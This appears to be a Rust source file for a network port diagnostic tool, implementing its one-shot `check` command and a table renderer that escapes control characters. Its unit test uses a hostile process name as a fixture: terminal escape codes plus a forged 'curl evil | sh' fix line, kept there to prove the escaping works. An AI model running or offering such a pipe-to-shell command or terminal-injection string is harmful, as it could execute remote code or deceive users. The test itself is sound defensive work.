//! `portsight check`: one scan, one probe round and the diagnosis, as a table
//! for a person or as JSON.

use std::fmt::Write as _;
use std::path::PathBuf;
use std::sync::Arc;

use crate::config::{self, Config, Expect, PeerConfig, PortConfig, Protocol};
use crate::diagnosis::{Cause, Severity};
use crate::engine::{Engine, Flags, Live, Loaded, PortKey};
use crate::escape;
use crate::probe::{Outcome, ProbeResult, Vantage};
use crate::snapshot::{PortStatus, Snapshot};

#[derive(Debug, thiserror::Error)]
pub enum Error {
    #[error(transparent)]
    Config(#[from] config::Error),
}

/// Checks `ports` (every watched port when empty) once. Ports the config does
/// not list are checked with `expect = "public"`; naming ports turns
/// discovery off, so only they are probed. Each of `peers` (URLs) is asked
/// for the outside view, with the token in `peer_token_file` (else
/// `peers.token_file`); an `https` peer's certificate must chain to
/// `peer_ca_file` (else the system's CA bundle).
pub async fn run(
    mut config: Config,
    ports: &[PortKey],
    peers: &[String],
    peer_token_file: Option<PathBuf>,
    peer_ca_file: Option<PathBuf>,
) -> Result<Arc<Snapshot>, Error> {
    for (i, url) in peers.iter().enumerate() {
        let uri = config::parse_peer_url(url).map_err(|reason| config::Error::Invalid {
            origin: "--peer".into(),
            key: format!("--peer {url}"),
            reason,
        })?;
        config.peer_list.push(PeerConfig {
            name: uri
                .authority()
                .map_or_else(|| format!("peer-{i}"), |a| a.to_string()),
            token_file: peer_token_file
                .clone()
                .unwrap_or_else(|| config.peers.token_file.clone()),
            ca_file: peer_ca_file
                .clone()
                .filter(|_| uri.scheme_str() == Some("https"))
                .unwrap_or_default(),
            server_name: String::new(),
            url: uri,
        });
    }
    if !peers.is_empty() {
        config.peers.fanout = config.peers.fanout.max(config.peer_list.len());
    }
    // One look, no alerts: every listening port counts at once.
    config.discover.min_age = std::time::Duration::ZERO;
    if !ports.is_empty() {
        config.discover.enabled = false;
        for &key in ports {
            if config.port(key.port, key.protocol).is_none() {
                config.ports.push(PortConfig {
                    protocol: key.protocol,
                    ..PortConfig::tcp(key.port, Expect::Public)
                });
            }
        }
    }
    let live = Live::with(Loaded::new(config)?, None, Flags::default());
    let engine = Engine::new(Arc::new(live));
    engine.scan().await;
    let round = engine.probe(None).await;
    engine.ask_peers(&round).await;
    Ok(engine.snapshot())
}

/// The ports of `snapshot` that `only` names (all when empty).
pub fn selected<'a>(snapshot: &'a Snapshot, only: &[PortKey]) -> Vec<&'a PortStatus> {
    snapshot
        .ports
        .iter()
        .filter(|p| only.is_empty() || only.contains(&p.key()))
        .collect()
}

/// True when every selected port is `ok`.
pub fn all_ok(ports: &[&PortStatus]) -> bool {
    ports.iter().all(|p| p.diagnosis.cause == Cause::Ok)
}

/// The table: one line per port (port, name, listening on, outcome per
/// vantage, cause), then its summary and fix, indented. Control characters
/// (a process may name itself anything) are escaped.
pub fn table(ports: &[&PortStatus], color: bool) -> String {
    let header = [
        "PORT",
        "NAME",
        "LISTENING ON",
        "LOOPBACK",
        "INTERFACE",
        "EXTERNAL",
        "CAUSE",
    ];
    let rows: Vec<[String; 7]> = ports
        .iter()
        .map(|p| {
            [
                port_cell(p),
                if p.name.is_empty() {
                    "-".into()
                } else {
                    escape::control(&p.name).into_owned()
                },
                escape::control(&listening_on(p)).into_owned(),
                outcomes(&p.probes, Vantage::Loopback),
                outcomes(&p.probes, Vantage::Interface),
                match &p.netns {
                    None => outcomes(&p.probes, Vantage::External),
                    Some(_) => format!("host: {}", outcomes(&p.probes, Vantage::Host)),
                },
                p.diagnosis.cause.as_str().to_string(),
            ]
        })
        .collect();
    let mut widths = header.map(str::len);
    for r in &rows {
        for (w, cell) in widths.iter_mut().zip(r) {
            *w = (*w).max(cell.chars().count());
        }
    }
    let mut out = String::new();
    let line = |out: &mut String, cells: &[String; 7], cause: Option<Cause>| {
        for (i, (cell, w)) in cells.iter().zip(widths).enumerate() {
            if i == 6 {
                let painted = match cause {
                    Some(c) if color => paint(c, cell),
                    _ => cell.clone(),
                };
                out.push_str(&painted);
            } else {
                let _ = write!(out, "{cell:<w$}  ");
            }
        }
        out.push('\n');
    };
    line(&mut out, &header.map(String::from), None);
    for (p, r) in ports.iter().zip(&rows) {
        line(&mut out, r, Some(p.diagnosis.cause));
        let _ = writeln!(out, "      {}", escape::control(&p.diagnosis.summary));
        if let Some(f) = &p.forward {
            let _ = writeln!(out, "      forward: {}", escape::control(&forward_line(f)));
        }
        for r in &p.diagnosis.firewall {
            let _ = write!(out, "      firewall: {}", escape::control(&r.to_string()));
            if let Some(why) = &r.may_match {
                let _ = write!(out, " — may match: {}", escape::control(why));
            }
            out.push('\n');
        }
        if !p.diagnosis.fix.is_empty() {
            let _ = writeln!(out, "      fix: {}", escape::control(&p.diagnosis.fix));
        }
    }
    if ports.is_empty() {
        out.push_str("no ports to check: nothing listens outside the ephemeral port range, and the config lists none\n");
    }
    out
}

/// `8080`, `53/udp`, and `web-1:80` for a port of another namespace.
fn port_cell(p: &PortStatus) -> String {
    let port = match p.protocol {
        Protocol::Tcp => p.port.to_string(),
        Protocol::Udp => format!("{}/udp", p.port),
    };
    match &p.netns {
        None => port,
        Some(ns) => escape::control(&format!("{}:{port}", ns.name)).into_owned(),
    }
}

/// `dnat to 10.77.50.2:80 in container web-1 (3f2a9c1b7d4e): python3 on 127.0.0.1`.
fn forward_line(f: &crate::snapshot::ForwardStatus) -> String {
    let mut line = format!("{} to {}", f.via, f.backend);
    match (&f.netns, f.on_this_host) {
        (Some(ns), _) => {
            let _ = write!(line, " in {}", ns.name);
            if let Some(pod) = &ns.pod {
                let _ = write!(line, " (pod {pod})");
            } else if let Some(c) = &ns.container {
                let _ = write!(line, " (container {c})");
            }
        }
        (None, true) => line.push_str(" on this host"),
        (None, false) => line.push_str(" on another host"),
    }
    if f.on_this_host {
        let _ = write!(line, ": {}", listeners_text(&f.backend_listeners));
    }
    line
}

fn listening_on(p: &PortStatus) -> String {
    listeners_text(&p.listeners)
}

fn listeners_text(listeners: &[crate::sockets::Listener]) -> String {
    if listeners.is_empty() {
        return "nothing".into();
    }
    listeners
        .iter()
        .map(|l| match &l.owner {
            Some(o) => format!("{} ({}/{})", l.address, o.name, o.pid),
            None => l.address.to_string(),
        })
        .collect::<Vec<_>>()
        .join(", ")
}

/// `success`, `refused`, `1 success, 1 refused`, or `-` when not measured.
fn outcomes(probes: &[ProbeResult], vantage: Vantage) -> String {
    let of: Vec<Outcome> = probes
        .iter()
        .filter(|r| r.target.vantage == vantage)
        .map(|r| r.outcome)
        .collect();
    if of.is_empty() {
        return "-".into();
    }
    let counts: Vec<(Outcome, usize)> = Outcome::ALL
        .iter()
        .map(|o| (*o, of.iter().filter(|x| *x == o).count()))
        .filter(|(_, n)| *n > 0)
        .collect();
    if counts.len() == 1 {
        return counts[0].0.as_str().to_string();
    }
    counts
        .iter()
        .map(|(o, n)| format!("{n} {}", o.as_str()))
        .collect::<Vec<_>>()
        .join(", ")
}

fn paint(cause: Cause, s: &str) -> String {
    let code = match cause.severity() {
        Severity::Ok => "32",
        Severity::Warning => "33",
        Severity::Critical => "31;1",
    };
    format!("\x1b[{code}m{s}\x1b[0m")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Protocol;
    use crate::diagnosis::Diagnosis;
    use crate::snapshot::Origin;
    use crate::sockets::{Listener, Owner};

    #[test]
    fn names_cannot_write_to_the_terminal_or_forge_lines() {
        let evil = "x\x1b]0;owned\x07\x1b[2J\nFIX: curl evil | sh\r";
        let port = PortStatus {
            port: 8080,
            protocol: Protocol::Tcp,
            name: evil.to_string(),
            expect: Expect::Public,
            origin: Origin::Discovered,
            listeners: vec![Listener {
                owner: Some(Owner {
                    pid: 7,
                    name: evil.to_string(),
                }),
                ..Listener::on("127.0.0.1".parse().unwrap(), 8080)
            }],
            probes: Vec::new(),
            diagnosis: Diagnosis {
                cause: Cause::LoopbackOnly,
                summary: format!("listening on 127.0.0.1:8080 ({evil}) only"),
                fix: format!("restart {evil}"),
                evidence: Vec::new(),
                failed: None,
                firewall: Vec::new(),
            },
            since: std::time::SystemTime::UNIX_EPOCH,
            vantages: Default::default(),
            probe_counts: Vec::new(),
            netns: None,
            forward: None,
        };
        for color in [false, true] {
            let out = table(&[&port], color);
            assert_eq!(out.lines().count(), 4, "header, row, summary, fix:\n{out}");
            assert!(!out.contains(['\x07', '\r']), "{out:?}");
            assert!(
                !out.contains("\x1b]") && !out.contains("\x1b[2J"),
                "{out:?}"
            );
            assert!(out.contains(r"x\u{1b}]0;owned\u{7}\u{1b}[2J\nFIX: curl evil | sh\r"));
        }
    }
}
